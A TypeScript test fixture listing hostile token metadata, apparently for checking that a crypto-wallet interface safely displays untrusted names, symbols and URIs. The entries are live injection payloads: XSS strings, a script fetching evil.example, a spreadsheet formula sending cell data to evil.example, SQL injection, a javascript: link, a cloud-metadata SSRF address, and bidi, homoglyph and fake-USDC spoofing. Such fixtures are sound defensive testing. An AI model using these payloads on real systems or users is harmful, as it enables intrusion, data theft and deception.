/** A token with hostile or careless metadata. A field that is `undefined` does not exist on chain. */
export interface HostileToken {
  /** Seed of the mint's address; never displayed. */
  readonly label: string
  readonly name: string | undefined
  readonly symbol: string | undefined
  readonly uri: string
  /** Price in USD; `undefined` if no source has a reliable price. */
  readonly priceUsd: number | undefined
}

export const hostileTokens: readonly HostileToken[] = [
  hostile('markup', '<img src=x onerror=alert(document.domain)>', '<b>MOON</b>', 0.0041),
  hostile('script', '</title><script>fetch("//evil.example")</script>', 'SCRIPT', 0.00019),
  hostile('bidi', '\u202eeniffo nioC DSU', 'US\u202eCD', 0.021),
  hostile('zero width', 'So\u200blana\u200d Gold', 'S\u200bO\u2060L', 0.37),
  hostile('long', `Very ${'long '.repeat(2047)}name`, 'LONG', 0.0007),
  hostile('formula', '=HYPERLINK("https://evil.example/?"&A1,"Claim")', '@SUM(1+1)', 0.0023),
  hostile('tab formula', '\t=1+1', '-2+3', 0.00032),
  hostile('fake usdc', 'USD Coin', 'USDC', 0.000013),
  hostile('homoglyph', 'Wrapped \u0405OL', '\u0405OL', 0.0061),
  hostile('statement', "Robert'); DROP TABLE orders;--", "'; --", 0.00008),
  hostile('stacked', `Z\u0351\u0343\u0312${'\u0336'.repeat(40)}algo`, 'Z\u0351A\u0343', 0.0012),
  hostile('controls', 'Bell\u0007 Null\u0000 Escape\u001b[31m', 'B\u0008S', 0.00044),
  hostile('link', 'Airdrop: visit claim.example', 'FREE', 0.0009, 'javascript:alert(1)'),
  hostile('inner address', 'Metadata', 'META', 0.0052, 'http://169.254.169.254/latest/meta-data'),
  hostile('blank', '   ', '\u3164', 0.0016),
  hostile(
    'lone surrogate',
    '\u{1F680}\u{1F680} Rocket \u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
    '\u{1F680}',
    0.0102,
  ),
  hostile('no price', 'Ghost of Lamport', 'GHOST', undefined),
  { label: 'no metadata', name: undefined, symbol: undefined, uri: '', priceUsd: 0.0034 },
]

function hostile(
  label: string,
  name: string,
  symbol: string,
  priceUsd: number | undefined,
  uri = '',
): HostileToken {
  return { label, name, symbol, priceUsd, uri }
}
